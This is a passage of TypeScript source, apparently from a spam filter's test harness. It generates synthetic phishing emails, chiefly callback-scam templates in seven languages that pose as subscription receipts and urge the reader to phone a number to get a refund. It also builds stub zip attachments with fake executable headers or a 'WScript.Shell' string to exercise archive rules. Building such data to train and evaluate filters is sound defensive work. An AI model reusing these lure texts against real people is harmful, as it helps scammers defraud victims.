      [`Your ${brand} order ${invoice} has been processed`, `Hello,\n\nthank you for your purchase. Your order has been processed and $${r.int(299, 799)}.${cents} will be debited from your account within 24 hours.\n\nProduct: ${brand} ${r.pick(['Premium Plan', 'Lifetime Protection', 'Tech Support 3 years'])}\nOrder: ${invoice}\n\nIf you don't recognize this purchase, please contact us at ${phoneUs} to cancel the order.`],
      [`Ihr ${brand} Abonnement wurde verlängert`, `Sehr geehrter Kunde,\n\nIhr ${brand} Abonnement wurde automatisch verlängert. Der Betrag von ${r.int(249, 499)},${cents} € wird von Ihrem Konto abgebucht (Rechnung ${invoice}).\n\nWenn Sie diese Zahlung nicht autorisiert haben, rufen Sie uns innerhalb von 24 Stunden unter ${phoneEu} an, um eine Rückerstattung zu erhalten.`],
      [`Facture ${brand} n° ${invoice}`, `Bonjour,\n\nvotre abonnement ${brand} a été renouvelé pour ${r.int(249, 499)},${cents} €. Le montant sera prélevé sous 24 heures.\n\nSi vous n'avez pas autorisé ce paiement, appelez notre service client au ${phoneEu} pour annuler et obtenir un remboursement.`],
      [`Su suscripción ${brand} se ha renovado`, `Estimado cliente:\n\nsu suscripción ${brand} se ha renovado y se ha cargado ${r.int(249, 499)},${cents} EUR en su cuenta (factura ${invoice}).\n\nSi no reconoce este cargo, llame al ${phoneEu} para cancelar y recibir el reembolso.`],
      [`Assinatura ${brand} renovada - fatura ${invoice}`, `Prezado cliente,\n\nsua assinatura ${brand} foi renovada por R$ ${r.int(1, 2)}.${r.int(100, 999)},${cents}.\n\nSe você não reconhece esta cobrança, ligue para ${phoneEu} para cancelar e solicitar o reembolso.`],
      [`Rinnovo abbonamento ${brand}`, `Gentile cliente,\n\nil tuo abbonamento ${brand} è stato rinnovato per ${r.int(249, 499)},${cents} € (fattura ${invoice}).\n\nSe non hai autorizzato il pagamento, chiama il ${phoneEu} per annullare e ricevere il rimborso.`],
      [`${brand} factuur ${invoice}`, `Beste klant,\n\nuw ${brand} abonnement is verlengd. Er wordt ${r.int(249, 499)},${cents} EUR van uw rekening afgeschreven.\n\nAls u dit niet heeft aangevraagd, bel dan direct ${phoneEu} voor terugbetaling.`],
    ];
    // English in about half the messages, as most of this scam is; the rest spread over the other languages.
    const [subject, text] = r.chance(0.5) ? r.pick(texts.slice(0, 2)) : r.pick(texts.slice(2));
    const name = r.pick([`${brand} Billing`, `${brand} Support`, 'Billing Department', 'Customer Service', fullNameOf(p)]);
    return { kind: 'callback', fromDomain: domain, spec: { from: { name, address: p.email }, subject, text } };
  },
};

export const phishFamilies = Object.keys(families);

/**
 * Families the shipped model never learns from: every third, so that eval:spam can say how it does on kinds of lure
 * it has not seen, beside the ones it has (on other seeds); and callback phishing, which is a receipt word for word
 * ("your card has been charged $499.99 … call us"): learning its words taught the model to distrust receipts (a
 * payment confirmation rendered from a public template went from tagged by nothing to spam probability 0.996), and
 * PHISH_CALLBACK reads it by what a receipt does not have, a phone number to call about a charge.
 */
export const modelHeldOutFamilies: ReadonlySet<string> = new Set([...phishFamilies.filter((_, i) => i % 3 === 2), 'callback']);

export async function generatePhish(seed: number): Promise<Generated> {
  const r = rand(seed);
  const family = phishFamilies[seed % phishFamilies.length]!;
  const { kind, spec, fromDomain } = families[family]!(r);
  const to = person(r, 'en');
  // A fixed MIME boundary: the composer draws a random one otherwise, and the same seed must give the same bytes.
  const raw = await new MailComposer({
    ...({ baseBoundary: token(r, 16) } as Mail.Options),
    to: to.email,
    date: new Date(Date.parse('2026-11-02T09:30:00Z') + (seed % 86400) * 1000),
    messageId: `<${token(r, 16)}@${fromDomain}>`,
    ...spec,
  }).compile().build();
  const from = (typeof spec.from === 'object' && spec.from && 'address' in spec.from ? spec.from.address : '') ?? '';
  return { kind, seed, raw, mailFrom: from, authUser: from, recipients: [to.email] };
}

/** A zip with one stored entry, enough for the archive rules. */
function zipOf(name: string): Buffer {
  const n = Buffer.from(name);
  const data = name.endsWith('.exe') || name.endsWith('.scr') ? Buffer.concat([Buffer.from('MZ'), Buffer.alloc(120, 0x90)]) : Buffer.from('WScript.Shell');
  const h = Buffer.alloc(30);
  h.writeUInt32LE(0x04034b50, 0);
  h.writeUInt16LE(20, 4);
  h.writeUInt32LE(data.length, 18);
  h.writeUInt32LE(data.length, 22);
  h.writeUInt16LE(n.length, 26);
  return Buffer.concat([h, n, data, Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)]);
}
